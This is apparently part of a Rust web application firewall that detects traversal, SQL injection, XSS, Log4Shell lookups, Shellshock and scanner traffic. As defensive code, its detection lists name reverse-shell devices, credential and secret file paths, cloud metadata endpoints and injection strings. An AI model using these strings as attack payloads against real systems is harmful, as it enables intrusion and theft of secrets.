//! Managed protections: detectors for common attacks that need no configuration. Pure
//! functions over bytes the caller has already taken out of the request (see
//! [`super::inputs`]).
//!
//! SQL injection and cross-site scripting are libinjection's (its Rust port). Traversal,
//! known bad inputs and scanners are ours, written to catch what attack tools send while
//! leaving ordinary API traffic alone; `tests/data/firewall/` holds the corpora they are
//! measured on, and the tests here fail when detection or false positives regress.
//!
//! When several protections would match, the one reported is the first to match in the order
//! they are tried, cheapest first: known bad inputs, traversal, XSS, SQL injection.

use crate::config::ManagedProtection;
use crate::urlpath::hex_value;
use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
use std::panic::{catch_unwind, AssertUnwindSafe};
use std::sync::LazyLock;

/// A set of managed protections.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Hash)]
pub struct ProtectionSet(u8);

impl ProtectionSet {
    /// No protection.
    pub const fn empty() -> Self {
        Self(0)
    }

    /// Every protection.
    pub fn all() -> Self {
        ManagedProtection::ALL.into_iter().collect()
    }

    const fn bit(p: ManagedProtection) -> u8 {
        1 << p as u8
    }

    /// Add `p`.
    pub fn insert(&mut self, p: ManagedProtection) {
        self.0 |= Self::bit(p);
    }

    /// Whether `p` is in the set.
    pub const fn contains(self, p: ManagedProtection) -> bool {
        self.0 & Self::bit(p) != 0
    }

    /// Whether the set has no protection.
    pub const fn is_empty(self) -> bool {
        self.0 == 0
    }

    /// The protections of `self` that are not in `other`.
    pub const fn without(self, other: Self) -> Self {
        Self(self.0 & !other.0)
    }

    /// The protections in both sets.
    pub const fn intersect(self, other: Self) -> Self {
        Self(self.0 & other.0)
    }

    /// The protections of the set, in [`ManagedProtection::ALL`] order.
    pub fn iter(self) -> impl Iterator<Item = ManagedProtection> {
        ManagedProtection::ALL
            .into_iter()
            .filter(move |&p| self.contains(p))
    }
}

impl FromIterator<ManagedProtection> for ProtectionSet {
    fn from_iter<I: IntoIterator<Item = ManagedProtection>>(iter: I) -> Self {
        let mut set = Self::empty();
        for p in iter {
            set.insert(p);
        }
        set
    }
}

/// Inspect one value the application will see decoded: a query or form value, a cookie
/// value, a header value, a JSON string. The value is inspected as given and, when it still
/// holds percent-escapes, once more decoded (applications that decode twice are common
/// enough that ModSecurity's rules do the same).
pub fn inspect_value(set: ProtectionSet, value: &[u8]) -> Option<ManagedProtection> {
    if set.is_empty() || value.is_empty() {
        return None;
    }
    let present = Present::of(value);
    if let Some(p) = inspect_decoded(set, value, present) {
        return Some(p);
    }
    if !present.any(Present::PERCENT) || !has_escape(value) {
        return None;
    }
    // Traversal was looked for in every decoding already (`canonical`), so this round, which
    // holds the scratch buffers, needs none itself.
    with_scratch(|s| {
        s.decoded.clear();
        percent_decode_iis(value, &mut s.decoded);
        inspect_decoded(set.without(TRAVERSAL), &s.decoded, Present::of(&s.decoded))
    })
}

/// Inspect the request path as received (still percent-encoded): traversal in up to two
/// rounds of decoding, known bad inputs, and cross-site scripting when the decoded path has
/// `<` or `"`. SQL injection is not looked for: identifiers in paths trip it too often.
pub fn inspect_path(set: ProtectionSet, path: &[u8]) -> Option<ManagedProtection> {
    if set.is_empty() || path.is_empty() {
        return None;
    }
    with_scratch(|s| {
        let traversal = set.contains(ManagedProtection::Traversal);
        let known_bad_inputs = set.contains(ManagedProtection::KnownBadInputs);
        if traversal || known_bad_inputs {
            // A path always has a `/`, so there is no cheap way out of canonicalizing it.
            canonical(path, s);
            if traversal && (traversal_in(&s.canon) || base64_traversal(path)) {
                return Some(ManagedProtection::Traversal);
            }
            if known_bad_inputs && exploitable_path(&s.canon) {
                return Some(ManagedProtection::KnownBadInputs);
            }
        }
        let mut buf = std::mem::take(&mut s.decoded);
        buf.clear();
        let decoded: &[u8] = if memchr::memchr(b'%', path).is_some() {
            percent_decode_iis(path, &mut buf);
            &buf
        } else {
            path
        };
        let present = Present::of(decoded);
        let found = if known_bad_inputs && known_bad_in(decoded, present) {
            Some(ManagedProtection::KnownBadInputs)
        } else if set.contains(ManagedProtection::Xss)
            && present.any(Present::LT | Present::DQUOTE)
            && present.any(Present::LT | Present::EQ)
            && xss(decoded)
        {
            Some(ManagedProtection::Xss)
        } else {
            None
        };
        s.decoded = buf;
        found
    })
}

/// Inspect a `User-Agent`: the names of vulnerability scanners (`scanners`), and lookups or
/// shell probes meant for whatever logs it (`known_bad_inputs`).
pub fn inspect_user_agent(set: ProtectionSet, ua: &[u8]) -> Option<ManagedProtection> {
    if set.contains(ManagedProtection::Scanners)
        && SCANNERS.as_ref().is_some_and(|ac| ac.is_match(ua))
    {
        return Some(ManagedProtection::Scanners);
    }
    if set.contains(ManagedProtection::KnownBadInputs) && known_bad(ua) {
        return Some(ManagedProtection::KnownBadInputs);
    }
    None
}

const TRAVERSAL: ProtectionSet = ProtectionSet(1 << ManagedProtection::Traversal as u8);

/// One round of the detectors on `v`, whose bytes are `present`.
fn inspect_decoded(set: ProtectionSet, v: &[u8], present: Present) -> Option<ManagedProtection> {
    if set.contains(ManagedProtection::KnownBadInputs) && known_bad_in(v, present) {
        return Some(ManagedProtection::KnownBadInputs);
    }
    if set.contains(ManagedProtection::Traversal) && traversal(v, present) {
        return Some(ManagedProtection::Traversal);
    }
    if set.contains(ManagedProtection::Xss) && present.any(Present::LT | Present::EQ) && xss(v) {
        return Some(ManagedProtection::Xss);
    }
    if set.contains(ManagedProtection::Sqli) && present.any(Present::NON_WORD) && sqli(v) {
        return Some(ManagedProtection::Sqli);
    }
    None
}

/// The kinds of bytes a value holds, found in one pass over it. Each detector needs some byte
/// to be there before it can match (a lookup needs `$` in some spelling, an XSS vector `<` or
/// `=`, ...), so one table lookup per byte replaces a scan per detector on values that cannot
/// match, which are almost all of them.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct Present(u32);

impl Present {
    /// A byte other than an ASCII letter, digit or `_`.
    const NON_WORD: u32 = 1;
    const DOLLAR: u32 = 1 << 1;
    const PERCENT: u32 = 1 << 2;
    const AMP: u32 = 1 << 3;
    const BACKSLASH: u32 = 1 << 4;
    const LPAREN: u32 = 1 << 5;
    const COLON: u32 = 1 << 6;
    const ZERO: u32 = 1 << 7;
    /// Not ASCII.
    const HIGH: u32 = 1 << 8;
    const SLASH: u32 = 1 << 9;
    const DOT: u32 = 1 << 10;
    const LT: u32 = 1 << 11;
    const EQ: u32 = 1 << 12;
    /// What separates shell commands: `;`, `|`, a line break, a backtick.
    const SEP: u32 = 1 << 13;
    /// `[`, `#`, `@`, `{`.
    const OTHER: u32 = 1 << 14;
    const UNDERSCORE: u32 = 1 << 15;
    /// `L`, which both base64 spellings of a traversal start with.
    const CAP_L: u32 = 1 << 16;
    /// `x` or `X`.
    const X: u32 = 1 << 17;
    /// `O`, which a base64 Java stream (`rO0AB`) and a PHP object (`O:`) have.
    const CAP_O: u32 = 1 << 18;
    /// `a` or `A`, for the hex Java stream magic (`aced0005`).
    const A: u32 = 1 << 19;
    /// `"`, which an XSS vector in a path needs when it has no `<`.
    const DQUOTE: u32 = 1 << 20;

    /// The bytes that each of [`KNOWN_BAD_STRINGS`] has at least one of (a test checks).
    const KNOWN_BAD_STRING: u32 = Self::DOLLAR
        | Self::SLASH
        | Self::LT
        | Self::COLON
        | Self::DOT
        | Self::LPAREN
        | Self::UNDERSCORE
        | Self::OTHER;

    const CLASS: [u32; 256] = {
        let mut t = [0u32; 256];
        let mut i = 0;
        while i < 256 {
            let b = i as u8;
            let mut c = if b.is_ascii_alphanumeric() || b == b'_' {
                0
            } else {
                Self::NON_WORD
            };
            c |= match b {
                b'$' => Self::DOLLAR,
                b'%' => Self::PERCENT,
                b'&' => Self::AMP,
                b'\\' => Self::BACKSLASH,
                b'(' => Self::LPAREN,
                b':' => Self::COLON,
                b'0' => Self::ZERO,
                b'/' => Self::SLASH,
                b'.' => Self::DOT,
                b'<' => Self::LT,
                b'=' => Self::EQ,
                b';' | b'|' | b'\n' | b'\r' | b'`' => Self::SEP,
                b'[' | b'#' | b'@' | b'{' => Self::OTHER,
                b'_' => Self::UNDERSCORE,
                b'L' => Self::CAP_L,
                b'x' | b'X' => Self::X,
                b'O' => Self::CAP_O,
                b'a' | b'A' => Self::A,
                b'"' => Self::DQUOTE,
                0x80..=0xff => Self::HIGH,
                _ => 0,
            };
            t[i] = c;
            i += 1;
        }
        t
    };

    fn of(v: &[u8]) -> Self {
        Self(v.iter().fold(0, |m, &b| m | Self::CLASS[usize::from(b)]))
    }

    /// Whether any of `bits` is present.
    const fn any(self, bits: u32) -> bool {
        self.0 & bits != 0
    }

    /// Whether all of `bits` are present.
    const fn all(self, bits: u32) -> bool {
        self.0 & bits == bits
    }
}

// ---------------------------------------------------------------------------------------------
// Scratch buffers

/// Buffers for decoded copies, one set per thread, so that inspecting a request allocates
/// only until the buffers have grown to its largest value.
#[derive(Default)]
struct Scratch {
    decoded: Vec<u8>,
    a: Vec<u8>,
    b: Vec<u8>,
    canon: Vec<u8>,
}

/// Past this, a buffer is dropped after use rather than kept for the next request.
const SCRATCH_KEEP: usize = 128 * 1024;

thread_local! {
    static SCRATCH: std::cell::RefCell<Scratch> = std::cell::RefCell::new(Scratch::default());
}

fn with_scratch<R>(f: impl FnOnce(&mut Scratch) -> R) -> R {
    // Taken out of the slot rather than borrowed, so a nested call (or a call during thread
    // teardown) gets fresh buffers instead of a panic.
    let mut s = SCRATCH
        .try_with(|cell| {
            cell.try_borrow_mut()
                .map(|mut s| std::mem::take(&mut *s))
                .ok()
        })
        .ok()
        .flatten()
        .unwrap_or_default();
    let r = f(&mut s);
    for buf in [&mut s.decoded, &mut s.a, &mut s.b, &mut s.canon] {
        if buf.capacity() > SCRATCH_KEEP {
            *buf = Vec::new();
        }
    }
    let _ = SCRATCH.try_with(|cell| {
        if let Ok(mut slot) = cell.try_borrow_mut() {
            *slot = s;
        }
    });
    r
}

// ---------------------------------------------------------------------------------------------
// Decoding

/// Whether `v` has a `%XX` or `%uXXXX` escape.
fn has_escape(v: &[u8]) -> bool {
    memchr::memchr_iter(b'%', v).any(|i| {
        let hex = |j: usize| v.get(j).copied().and_then(hex_value).is_some();
        (hex(i + 1) && hex(i + 2))
            || (matches!(v.get(i + 1), Some(b'u' | b'U')) && (2..6).all(|k| hex(i + k)))
    })
}

/// Append one round of percent-decoding of `v` to `out`: `%XX`, and IIS's `%uXXXX` as UTF-8.
/// Invalid escapes are kept as they are.
fn percent_decode_iis(v: &[u8], out: &mut Vec<u8>) {
    out.reserve(v.len());
    let mut i = 0;
    while i < v.len() {
        let b = v[i];
        if b == b'%' {
            let hex = |j: usize| v.get(j).copied().and_then(hex_value);
            if let (Some(hi), Some(lo)) = (hex(i + 1), hex(i + 2)) {
                out.push(hi << 4 | lo);
                i += 3;
                continue;
            }
            if matches!(v.get(i + 1), Some(b'u' | b'U')) {
                if let (Some(a), Some(b), Some(c), Some(d)) =
                    (hex(i + 2), hex(i + 3), hex(i + 4), hex(i + 5))
                {
                    let cp =
                        u32::from(a) << 12 | u32::from(b) << 8 | u32::from(c) << 4 | u32::from(d);
                    if let Some(ch) = char::from_u32(cp) {
                        let mut utf8 = [0u8; 4];
                        out.extend_from_slice(ch.encode_utf8(&mut utf8).as_bytes());
                        i += 6;
                        continue;
                    }
                }
            }
        }
        out.push(b);
        i += 1;
    }
}

// ---------------------------------------------------------------------------------------------
// SQL injection and XSS: libinjection

/// libinjection's SQL injection verdict. The caller skips values of ASCII letters, digits and
/// `_` only ([`Present::NON_WORD`]): such a value tokenizes to at most a number and one word, and no fingerprint of
/// that shape is on libinjection's list except `1U` (a number then UNION), which its own
/// whitelist clears when there are only two tokens (a property test below checks this).
fn sqli(v: &[u8]) -> bool {
    guarded(|| {
        // `SqliState::detect` rather than `detect_sqli`, which fingerprints a second time
        // after deciding.
        libinjectionrs::SqliState::new(v, libinjectionrs::SqliFlags::FLAG_NONE).detect()
    })
}

/// libinjection's XSS verdict. The caller skips values without `<` or `=`: in every context
/// libinjection parses, a dangerous token is a tag, comment or doctype (which need `<`) or an
/// attribute value (which needs `=`).
fn xss(v: &[u8]) -> bool {
    guarded(|| libinjectionrs::detect_xss(v).is_injection())
}

/// Run a libinjection check. The port is machine-translated C that indexes slices directly
/// (and asserts); a panic there must neither take the worker down nor let the request
/// through, so it counts as a detection: fail closed, since the input that trips it is
/// hostile or at least pathological.
fn guarded(check: impl FnOnce() -> bool) -> bool {
    catch_unwind(AssertUnwindSafe(check)).unwrap_or(true)
}

// ---------------------------------------------------------------------------------------------
// Traversal

/// `../` or `..\` in any spelling, or the path of a file that attackers read through file
/// inclusion (`/etc/passwd`, `c:\windows\win.ini`).
fn traversal(input: &[u8], present: Present) -> bool {
    if present.any(Present::CAP_L) && base64_traversal(input) {
        return true;
    }
    // `.`, `/` and `\` can be spelled otherwise only with `%`, a byte over 0x7f or a `0x`
    // literal. Without those, `canonicalize` only lowercases, turns `\` into `/` and drops
    // NULs: a `..` segment then needs two dots in the value, and a sensitive file (which
    // counts after a separator of the value's own, see `sensitive_file`) a `/` or `\`.
    let spelled = present.any(Present::PERCENT | Present::HIGH)
        || (present.all(Present::ZERO | Present::X) && has_hex_literal(input));
    let may_match = spelled
        || present.any(Present::SLASH | Present::BACKSLASH)
        || (present.any(Present::DOT) && dot_pair(input));
    if !may_match {
        return false;
    }
    with_scratch(|s| {
        canonical(input, s);
        traversal_in(&s.canon)
    })
}

/// Two dots with nothing but NULs between them.
fn dot_pair(v: &[u8]) -> bool {
    memchr::memchr_iter(b'.', v)
        .any(|i| v.get(i + 1..).unwrap_or_default().iter().find(|&&b| b != 0) == Some(&b'.'))
}

/// Fill `s.canon` with [`canonicalize`] of `input` after up to two rounds of decoding.
fn canonical(input: &[u8], s: &mut Scratch) {
    let Scratch { a, b, canon, .. } = s;
    a.clear();
    b.clear();
    canon.clear();
    let decoded: &[u8] = if has_escape(input) {
        percent_decode_iis(input, a);
        if has_escape(a) {
            percent_decode_iis(a, b);
            b
        } else {
            a
        }
    } else {
        input
    };
    canonicalize(decoded, canon);
}

/// A traversal or a sensitive file in a canonical path.
fn traversal_in(canon: &[u8]) -> bool {
    dot_dot_segment(canon.get(1..).unwrap_or_default()) || sensitive_file(canon)
}

/// `../../` or `..\..\` in base64, for applications that decode a parameter into a path.
fn base64_traversal(v: &[u8]) -> bool {
    find_at_byte(v, b"Li4vLi4v") || find_at_byte(v, b"Li5cLi5c")
}

/// `0x2e`, `0x2f` or `0x5c` (`.`, `/`, `\` as C literals, which some traversal lists use).
fn has_hex_literal(v: &[u8]) -> bool {
    memchr::memchr_iter(b'0', v).any(|i| {
        matches!(
            v.get(i + 1..i + 4),
            Some([x, h, l]) if *x | 0x20 == b'x'
                && matches!((*h, *l | 0x20), (b'2', b'e' | b'f') | (b'5', b'c'))
        )
    })
}

/// What a file system or a lax decoder would make of `v`, for traversal matching: lower
/// case, `\` as `/`, NULs dropped, and the other spellings of `.`, `/` and `\` replaced by
/// them: overlong UTF-8 (`%c0%ae`, `%e0%80%af`), IIS's bogus hex digits after an overlong lead
/// (`%c0%qf`), full-width and look-alike characters that Unicode normalization folds
/// (`%uff0e`, `%u2215`), and `0x2e`. `out` starts with a `/`.
fn canonicalize(v: &[u8], out: &mut Vec<u8>) {
    out.reserve(v.len() + 1);
    out.push(b'/');
    let mut i = 0;
    while i < v.len() {
        let b = v[i];
        if b >= 0x80 {
            if let Some((mapped, len)) = fold_non_ascii(v, i) {
                out.extend_from_slice(mapped);
                i += len;
                continue;
            }
            out.push(b);
        } else if b == 0 {
        } else if b == b'\\' {
            out.push(b'/');
        } else if let Some((mapped, len)) = bogus_escape_lead(v, i) {
            out.extend_from_slice(mapped);
            i += len;
            continue;
        } else if b == b'0' && matches!(v.get(i + 1), Some(b'x' | b'X')) {
            match (v.get(i + 2), v.get(i + 3).map(|c| c | 0x20)) {
                (Some(b'2'), Some(b'e')) => out.push(b'.'),
                (Some(b'2'), Some(b'f')) | (Some(b'5'), Some(b'c')) => out.push(b'/'),
                _ => {
                    out.push(b'0');
                    i += 1;
                    continue;
                }
            }
            i += 4;
            continue;
        } else {
            out.push(b.to_ascii_lowercase());
        }
        i += 1;
    }
}

/// The `.` or `/` that the non-ASCII sequence at `v[i]` stands for, and its length.
fn fold_non_ascii(v: &[u8], i: usize) -> Option<(&'static [u8], usize)> {
    let lead = v[i];
    let rest = v.get(i + 1..).unwrap_or_default();
    // Look-alikes that NFKC folds to ASCII, and two private-use characters IIS maps to `/`.
    const FOLDS: [(&[u8], &[u8]); 10] = [
        (b"\xef\xbc\x8e", b"."),  // U+FF0E fullwidth full stop
        (b"\xef\xbc\x8f", b"/"),  // U+FF0F fullwidth solidus
        (b"\xef\xbc\xbc", b"/"),  // U+FF3C fullwidth reverse solidus
        (b"\xe2\x88\x95", b"/"),  // U+2215 division slash
        (b"\xe2\x88\x96", b"/"),  // U+2216 set minus
        (b"\xe2\x81\x84", b"/"),  // U+2044 fraction slash
        (b"\xe2\x80\xa4", b"."),  // U+2024 one dot leader
        (b"\xe2\x80\xa5", b".."), // U+2025 two dot leader
        (b"\xee\xbf\x88", b"/"),  // U+EFC8
        (b"\xef\x80\xa5", b"/"),  // U+F025
    ];
    for (seq, mapped) in FOLDS {
        if v.get(i..i + seq.len()) == Some(seq) {
            return Some((mapped, seq.len()));
        }
    }
    overlong(lead, rest).map(|(mapped, len)| (mapped, len + 1))
}

/// `%` and two "hex digits" as IIS read them (from 0-9a-z) that make an overlong lead byte
/// (`%bg` is 0xc0), followed by its continuation.
fn bogus_escape_lead(v: &[u8], i: usize) -> Option<(&'static [u8], usize)> {
    let [b'%', h, l, ..] = *v.get(i..)? else {
        return None;
    };
    if hex_value(h).is_some() && hex_value(l).is_some() {
        return None;
    }
    // IIS added the digits up, so `g` (16) carries into the high digit.
    let lead = ext_hex(h)? * 16 + ext_hex(l)?;
    if !(0xc0..=0xc1).contains(&lead) {
        return None;
    }
    let rest = v.get(i + 3..).unwrap_or_default();
    overlong(0xc0, rest).map(|(mapped, len)| (mapped, len + 3))
}

/// The `.` or `/` that an overlong UTF-8 sequence spells, given its lead byte and what
/// follows it, and how much of what follows it takes. Decoders that skip the validity checks
/// (old IIS, some Java) accept them, so the checks are skipped here too: only the low six
/// bits of the last byte count, the other continuation bytes must carry nothing, and after a
/// two-byte lead the continuation may be an ASCII byte or `%` and two IIS hex digits
/// (`%c0%qf`).
fn overlong(lead: u8, rest: &[u8]) -> Option<(&'static [u8], usize)> {
    let continuation = match lead {
        0xc0 | 0xc1 => 1,
        0xe0 => 2,
        0xf0 => 3,
        0xf8 => 4,
        0xfc => 5,
        _ => return None,
    };
    let (last, len) = if continuation == 1 {
        match rest {
            [b'%', h, l, ..] => match (ext_hex(*h), ext_hex(*l)) {
                (Some(h), Some(l)) => ((h * 16 + l) & 0x3f, 3),
                _ => (u32::from(*rest.first()?), 1),
            },
            [c, ..] => (u32::from(*c), 1),
            [] => return None,
        }
    } else {
        let middle = rest.get(..continuation - 1)?;
        if middle.iter().any(|&c| c & 0x3f != 0) {
            return None;
        }
        (u32::from(*rest.get(continuation - 1)?), continuation)
    };
    // A two-byte lead before ASCII `.`, `/` or `\`: decoders that drop the stray lead.
    if continuation == 1 && matches!(last, 0x2e | 0x2f | 0x5c) {
        return Some((if last == 0x2e { b"." } else { b"/" }, len));
    }
    match last & 0x3f {
        0x2e => Some((b".", len)),
        // `/`, and `\` (0x5c, whose low six bits are 0x1c).
        0x2f | 0x1c => Some((b"/", len)),
        _ => None,
    }
}

/// A hex digit as IIS read it: `0-9`, then letters on from 10 (`q` is 26).
fn ext_hex(b: u8) -> Option<u32> {
    match b {
        b'0'..=b'9' => Some(u32::from(b - b'0')),
        b'a'..=b'z' => Some(u32::from(b - b'a') + 10),
        b'A'..=b'Z' => Some(u32::from(b - b'A') + 10),
        _ => None,
    }
}

/// A path segment of two dots or more (`..`, `...`, `....` from filters that strip `../`
/// once), optionally followed by `;params` as Tomcat allows, next to a `/`.
fn dot_dot_segment(canon: &[u8]) -> bool {
    if memchr::memchr(b'/', canon).is_none() {
        return false;
    }
    canon.split(|&b| b == b'/').any(|seg| {
        let name = match memchr::memchr(b';', seg) {
            Some(semi) => &seg[..semi],
            None => seg,
        };
        name.len() >= 2 && name.iter().all(|&b| b == b'.')
    })
}

/// Files that file inclusion and traversal attacks read, as canonical paths.
const SENSITIVE_FILES: &[&str] = &[
    "/etc/passwd",
    "/etc/shadow",
    "/etc/master.passwd",
    "/etc/hosts",
    "/etc/issue",
    "/etc/group",
    "/proc/self/",
    "/proc/version",
    "/win.ini",
    "/boot.ini",
    "/system.ini",
    "/windows/system32/",
    "/winnt/system32/",
    "/web-inf/web.xml",
    "/.htpasswd",
    "/.ssh/id_",
    "/.ssh/authorized_keys",
    "/.bash_history",
    "/.aws/credentials",
    "/.htaccess",
    "/web.config",
    "/global.asa",
    "/inetpub/",
    "/etc/httpd/",
    "/etc/apache",
    "/etc/mysql/",
    "/etc/php",
    "/etc/init.d/",
    "/etc/syslog.conf",
    "/etc/rpc",
    "/etc/hostname",
    "/httpd.conf",
    "/php.ini",
    "/my.cnf",
    "/var/log/httpd",
    "/var/log/apache",
    "/access_log",
    "/error_log",
    "/var/adm/",
];

static SENSITIVE: LazyLock<Option<AhoCorasick>> =
    LazyLock::new(|| automaton(SENSITIVE_FILES, false));

/// A sensitive file path, ending where a file name ends (so `/etc/hosts-guide` is not one).
/// A bare file name (`php.ini`, `error_log`) counts only after a real separator, not the one
/// `canonicalize` puts first: alone it is more often a search for the name than an attack.
fn sensitive_file(canon: &[u8]) -> bool {
    let Some(ac) = SENSITIVE.as_ref() else {
        return false;
    };
    ac.find_overlapping_iter(canon).any(|m| {
        let in_directory = SENSITIVE_FILES
            .get(m.pattern().as_usize())
            .is_some_and(|p| p.trim_start_matches('/').contains('/'));
        (m.start() > 0 || in_directory) && ends_file_name(canon, m.end())
    })
}

/// Whether a match ending at `end` ends a path component (or is a directory).
fn ends_file_name(canon: &[u8], end: usize) -> bool {
    canon[..end].ends_with(b"/")
        || !canon
            .get(end)
            .is_some_and(|&c| c.is_ascii_alphanumeric() || c == b'_' || c == b'-')
}

/// Paths of files a server should never hand out, probed by every scanner.
const EXPLOITABLE_PATHS: &[&str] = &[
    "/.git/",
    "/.svn/",
    "/.hg/",
    "/.env",
    "/.aws/",
    "/.ssh/",
    "/.htaccess",
    "/.htpasswd",
    "/.ds_store",
    "/web-inf/",
    "/meta-inf/",
    "/wp-config.php",
    "/phpinfo.php",
];

static EXPLOITABLE: LazyLock<Option<AhoCorasick>> =
    LazyLock::new(|| automaton(EXPLOITABLE_PATHS, false));

/// One of [`EXPLOITABLE_PATHS`] in a canonical path.
fn exploitable_path(canon: &[u8]) -> bool {
    let Some(ac) = EXPLOITABLE.as_ref() else {
        return false;
    };
    ac.find_overlapping_iter(canon)
        .any(|m| ends_file_name(canon, m.end()))
}

// ---------------------------------------------------------------------------------------------
// Known bad inputs

/// Strings that have no business in API input, matched case-insensitively.
const KNOWN_BAD_STRINGS: &[&str] = &[
    // Shell: the input field separator as a space, reverse shell devices.
    "${ifs}",
    "$ifs$",
    "/dev/tcp/",
    "/dev/udp/",
    // PHP code and stream wrappers used by file inclusion.
    "<?php",
    "php://",
    "phar://",
    "expect://",
    // Spring4Shell (CVE-2022-22965) and Struts OGNL.
    "class.module.classloader",
    "class.classloader",
    "class[module]",
    "#_memberaccess",
    "@java.lang.runtime@",
    "java.lang.runtime",
    "java.lang.processbuilder",
    // Server-side includes.
    "<!--#exec",
    "<!--#include",
    // Cloud metadata endpoints (SSRF).
    "169.254.169.254",
    "metadata.google.internal",
    // PHP code in interpolated strings, reverse shells, Java code execution.
    "{${",
    "${@",
    "-e /bin/sh",
    "-e /bin/bash",
    "getruntime().exec(",
    "$_get[",
    "$_post[",
    "$_request[",
    "$_server[",
    "$_cookie[",
    // Python template injection.
    "__class__.__mro__",
    "__subclasses__",
    "__globals__",
    "__builtins__",
];

static KNOWN_BAD: LazyLock<Option<AhoCorasick>> =
    LazyLock::new(|| automaton(KNOWN_BAD_STRINGS, true));

/// Log4Shell and other lookups, Shellshock, serialized Java and PHP objects, shell command
/// probes, and [`KNOWN_BAD_STRINGS`].
fn known_bad(v: &[u8]) -> bool {
    known_bad_in(v, Present::of(v))
}

/// [`known_bad`] of `v`, whose bytes are `present`: each check runs only when a byte it
/// cannot match without is there.
fn known_bad_in(v: &[u8], present: Present) -> bool {
    use Present as P;
    (present.any(P::KNOWN_BAD_STRING) && KNOWN_BAD.as_ref().is_some_and(|ac| ac.is_match(v)))
        // `${` in one of its spellings: `$`, `%24`, `\u0024`, `&#36;`, `&dollar;`.
        || (present.any(P::DOLLAR | P::PERCENT | P::BACKSLASH | P::AMP) && lookup(v))
        || (present.any(P::LPAREN) && shellshock(v))
        || serialized_object(v, present)
        // A command run by path at the start, a PHP call, or a command after a separator,
        // `&` or `$(`.
        || (present.any(P::SLASH | P::LPAREN | P::SEP | P::AMP | P::DOLLAR) && command_injection(v))
}

/// One character at `v[i]`, in any spelling an application might decode before passing it
/// on: itself, `%XX`, `\uXXXX`, `&#NN;`, `&#xHH;`, or a few named entities (the `;` being
/// optional, as browsers and lax decoders allow). Returns the character and its length.
fn spelled(v: &[u8], i: usize) -> Option<(u32, usize)> {
    let b = *v.get(i)?;
    let hex = |j: usize| v.get(j).copied().and_then(hex_value).map(u32::from);
    match b {
        b'%' => {
            if let (Some(h), Some(l)) = (hex(i + 1), hex(i + 2)) {
                return Some((h << 4 | l, 3));
            }
        }
        b'\\' if matches!(v.get(i + 1), Some(b'u' | b'U')) => {
            if let (Some(a), Some(b), Some(c), Some(d)) =
                (hex(i + 2), hex(i + 3), hex(i + 4), hex(i + 5))
            {
                return Some((a << 12 | b << 8 | c << 4 | d, 6));
            }
        }
        b'&' => {
            if let Some(found) = entity(v, i) {
                return Some(found);
            }
        }
        _ => {}
    }
    Some((u32::from(b), 1))
}

/// An HTML character reference at `v[i]` (which is `&`).
fn entity(v: &[u8], i: usize) -> Option<(u32, usize)> {
    let rest = v.get(i + 1..)?;
    if let Some(num) = rest.strip_prefix(b"#") {
        let (radix, digits) = match num.first() {
            Some(b'x' | b'X') => (16, num.get(1..)?),
            _ => (10, num),
        };
        let mut value: u32 = 0;
        let mut n = 0;
        for &d in digits.iter().take(64) {
            let Some(dv) = (d as char).to_digit(radix) else {
                break;
            };
            value = value.saturating_mul(radix).saturating_add(dv);
            n += 1;
        }
        if n == 0 {
            return None;
        }
        let mut len = 1 + 1 + usize::from(radix == 16) + n;
        if v.get(i + len) == Some(&b';') {
            len += 1;
        }
        return Some((value, len));
    }
    const NAMED: [(&[u8], u32); 6] = [
        (b"lbrace", b'{' as u32),
        (b"lcub", b'{' as u32),
        (b"rbrace", b'}' as u32),
        (b"rcub", b'}' as u32),
        (b"dollar", b'$' as u32),
        (b"colon", b':' as u32),
    ];
    for (name, c) in NAMED {
        if rest.len() >= name.len() && rest[..name.len()].eq_ignore_ascii_case(name) {
            let mut len = 1 + name.len();
            if v.get(i + len) == Some(&b';') {
                len += 1;
            }
            return Some((c, len));
        }
    }
    None
}

/// Whether `${` (in any spelling) starts at `v[i]`; its length.
fn lookup_open(v: &[u8], i: usize) -> Option<usize> {
    let (c, n) = spelled(v, i)?;
    if c != u32::from(b'$') {
        return None;
    }
    let (c2, n2) = spelled(v, i + n)?;
    (c2 == u32::from(b'{')).then_some(n + n2)
}

/// Lookups that Log4j 2 and Apache Commons Text expand. Any of them in input means
/// Log4Shell (CVE-2021-44228) or Text4Shell (CVE-2022-42889), or their reconnaissance.
const LOOKUPS: &[&[u8]] = &[
    b"jndi",
    b"ctx",
    b"env",
    b"sys",
    b"java",
    b"date",
    b"lower",
    b"upper",
    b"main",
    b"base64",
    b"bundle",
    b"spring",
    b"k8s",
    b"docker",
    b"web",
    b"log4j",
    b"jvmrunargs",
    b"marker",
    b"sd",
    b"event",
    b"map",
    b"script",
    b"dns",
    b"url",
    b"file",
    b"const",
    b"xml",
];

/// A Log4j or Commons Text lookup: `${name:` with a name from [`LOOKUPS`], `${:` (the
/// default-value trick of `${::-j}`), or a lookup nested in a lookup's name
/// (`${${lower:j}ndi:`). `${name}` alone is an ordinary template variable and passes.
fn lookup(v: &[u8]) -> bool {
    for i in 0..v.len() {
        if !matches!(v[i], b'$' | b'%' | b'&' | b'\\') {
            continue;
        }
        let Some(open) = lookup_open(v, i) else {
            continue;
        };
        let mut j = i + open;
        let mut name = [0u8; 12];
        let mut len = 0;
        loop {
            if lookup_open(v, j).is_some() {
                return true;
            }
            let Some((c, n)) = spelled(v, j) else {
                break;
            };
            if c == u32::from(b':') {
                if len == 0 || LOOKUPS.contains(&&name[..len]) {
                    return true;
                }
                break;
            }
            let Some(c) = u8::try_from(c).ok().filter(|c| c.is_ascii_alphanumeric()) else {
                break;
            };
            if len == name.len() {
                break;
            }
            name[len] = c.to_ascii_lowercase();
            len += 1;
            j += n;
        }
    }
    false
}

/// Shellshock (CVE-2014-6271): a bash function definition `() { :;` or `() { _;`.
fn shellshock(v: &[u8]) -> bool {
    positions(v, b"()").any(|i| {
        let mut rest = skip_space(v.get(i + 2..).unwrap_or_default());
        let Some(after) = rest.strip_prefix(b"{") else {
            return false;
        };
        rest = skip_space(after);
        let Some(after) = rest.strip_prefix(b":").or_else(|| rest.strip_prefix(b"_")) else {
            return false;
        };
        skip_space(after).starts_with(b";")
    })
}

/// Where `needle` occurs in `v`. `memmem` would build a searcher on every call, which costs
/// more than these short values take to scan; the first byte of each needle is rare enough
/// for `memchr`.
fn positions<'a>(v: &'a [u8], needle: &'a [u8]) -> impl Iterator<Item = usize> + 'a {
    let first = needle.first().copied().unwrap_or_default();
    memchr::memchr_iter(first, v).filter(move |&i| v.get(i..i + needle.len()) == Some(needle))
